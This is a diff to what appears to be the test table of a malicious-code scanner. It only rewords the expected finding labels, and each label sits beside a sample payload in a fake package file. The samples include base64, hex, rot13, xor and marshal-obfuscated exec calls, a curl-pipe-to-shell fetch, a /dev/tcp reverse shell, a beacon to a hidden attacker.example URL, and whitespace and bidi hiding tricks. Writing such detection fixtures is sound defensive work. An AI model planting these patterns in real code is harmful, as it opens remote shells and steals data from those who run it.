@@ -281,61 +281,61 @@ requests.sessions.Session = Session
     ),
     "encoded once": (
         {"fmt/__init__.py": '@run(__import__("base64").b64decode("@b64(import os)@"))\n'},
-        "keeps encoded",
+        "runs encoded code",
     ),
     "packed and encoded": (
         {
             "fmt/__init__.py": 'import base64, zlib\ncode = zlib.decompress(base64.b64decode("@packed(print(1))@")\n)\n@run(compile(code, "x", "@run"))\n'
         },
-        "keeps encoded",
+        "runs encoded code",
     ),
     "reversed, in a lambda": (
         {
             "fmt/__init__.py": '_ = lambda x: __import__("base64").b64decode(x[::-1])\n@run((_)(b"@reversed(print(1))@"))\n'
         },
-        "keeps encoded",
+        "runs encoded code",
     ),
     "in hexadecimal": (
         {"fmt/__init__.py": '@run(bytes.fromhex("@hex(print(1))@").decode())\n'},
-        "keeps encoded",
+        "runs encoded code",
     ),
     "rotated": (
         {"fmt/__init__.py": 'import codecs\n@evaluate(codecs.decode("@rot(print(1))@", "rot13"))\n'},
-        "keeps encoded",
+        "runs encoded code",
     ),
     "xored": (
         {"fmt/__init__.py": "data = @xored(print(1))@\n@run(bytes(b ^ 7 for b in data))\n"},
-        "keeps encoded",
+        "runs encoded code",
     ),
     "xored by a function of its own": (
         {
             "fmt/__init__.py": "def _d(data, key):\n    out = ''\n    for i, c in enumerate(data):\n        out += chr(c ^ key)\n    return out\n@run(_d(@xored(import os; os.getpid())@, 7))\n"
         },
-        "keeps encoded",
+        "runs encoded code",
     ),
     "split in parts": (
         {
             "fmt/__init__.py": 'import base64\na = "@b64(import os)@"\nparts = [a[:4], a[4:]]\n@run(base64.b64decode("".join(parts)))\n'
         },
-        "keeps encoded",
+        "runs encoded code",
     ),
     "marshalled": (
         {
             "fmt/__init__.py": 'import marshal, base64\n@run(marshal.loads(base64.b64decode("@b64(xxxxxxxx)@")))\n'
         },
-        "keeps encoded",
+        "runs encoded code",
     ),
     "encoded, and run by a function that a test calls late": (
         {
             "fmt/__init__.py": 'import base64\ndef pad(x):\n    @run(base64.b64decode("@b64(import os)@"))\n    return x\n'
         },
-        "keeps encoded",
+        "runs encoded code",
     ),
     "encoded, for another interpreter": (
         {
             "fmt/__init__.py": 'import subprocess, sys\nsubprocess.Popen([sys.executable, "-c", "import base64; @run(base64.b64decode(\'@b64(import os)@\'))"])\n'
         },
-        "keeps encoded",
+        "runs encoded code",
     ),
     "names put together": (
         {"fmt/__init__.py": 'import os\nrun = getattr(os, "sy" + "st" + "em")\nrun("id")\n'},
@@ -359,19 +359,19 @@ requests.sessions.Session = Session
     ),
     "fetches a script into a shell": (
         {"fmt/__init__.py": 'import os\nos.system("curl -fsSL @host | sh")\n'},
-        "fetches a program",
+        "downloads a program",
     ),
     "a shell for somebody else": (
         {
             "fmt/__init__.py": 'import subprocess\nsubprocess.Popen(["bash", "-c", "bash -i >& /dev/tcp/10.9.8.7/4444 0>&1"])\n'
         },
-        "starts a shell",
+        "starts a remote shell",
     ),
     "an address that is hidden": (
         {
             "fmt/__init__.py": 'import base64, requests\nrequests.get(base64.b64decode("@b64(https://collector.attacker.example/c)@").decode())\n'
         },
-        "address that it hides",
+        "address that the code hides",
     ),
     "leaves a key behind": (
         {
@@ -379,7 +379,7 @@ requests.sessions.Session = Session
         },
         "authorized_keys",
     ),
-    "out of sight": ({"fmt/__init__.py": "x = 1" + " " * 300 + ";import os\n"}, "columns to the right"),
+    "out of sight": ({"fmt/__init__.py": "x = 1" + " " * 300 + ";import os\n"}, "blank columns"),
     "reordered": (
         {"fmt/__init__.py": "admin = False  # \u202e } \u2066if admin\u2069 \u2066 begin\n"},
         "another order",
